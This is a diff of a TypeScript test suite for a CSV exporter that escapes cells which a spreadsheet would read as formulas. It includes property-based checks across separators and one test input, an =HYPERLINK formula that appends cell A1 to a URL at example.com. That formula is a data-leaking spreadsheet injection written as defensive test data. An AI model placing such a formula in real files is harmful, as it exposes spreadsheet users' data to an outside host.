@@ -18,8 +18,35 @@ test('what is written is read again as it was, whatever it is', () => {
   fc.assert(written)
 })
 
-test.each(['=1+1', '+49', '-x', '@sum', '\t=1', '\r=1', `'=1`, `''@x`])('«%s» is no formula', text => {
+test.each(['=1+1', '+49', '-x', '@sum', '\tx', '\rx', `'=1`, `''@x`])('«%s» is no formula', text => {
   expect(csvOf([[text]])).toBe(`\uFEFF"'${text}"\r\n`)
+})
+
+/** The cells that a spreadsheet sees that parts them by this sign: quotation marks count where a cell begins with one. */
+const cellsBy = (sign: string, file: string): string[] => {
+  const cell = new RegExp(`(?:"((?:[^"]|"")*)")?([^${sign}\r\n]*)(?:${sign}|\r\n|\r|\n|$)`, 'gy')
+  const cells: string[] = []
+  while (cell.lastIndex < file.length) {
+    const [, quoted = '', rest = ''] = cell.exec(file) ?? []
+    cells.push(quoted.replaceAll('""', '"') + rest)
+  }
+  return cells
+}
+
+test.each([';', '\t', ','])('a spreadsheet that parts cells by «%s» finds no formula in any', sign => {
+  const parts = fc.array(fc.constantFrom(';', '\t', '\n', '\r\n', '"', "'", '=', '+', '@', '-', 'a'))
+  const text = parts.map(each => each.join(''))
+  const written = fc.property(fc.array(fc.tuple(text, text), { minLength: 1 }), rows => {
+    const cells = cellsBy(sign, csvOf(rows).slice(1))
+    expect(cells.filter(cell => /^[=+\-@]/.test(cell))).toEqual([])
+  })
+  fc.assert(written, { numRuns: 2000 })
+})
+
+test('a formula behind a semicolon is a text, and is read again as it was', () => {
+  const text = 'Best seller;=HYPERLINK("https://example.com/?"&A1;"here")'
+  expect(csvOf([['1', text]])).toContain(`;'=HYPERLINK`)
+  expect(cellsOf(csvOf([['1', text]]))).toEqual([['1', text]])
 })
 
 test.each(['-5', '-5.25', '9.99'])('%s stays a number', text => {
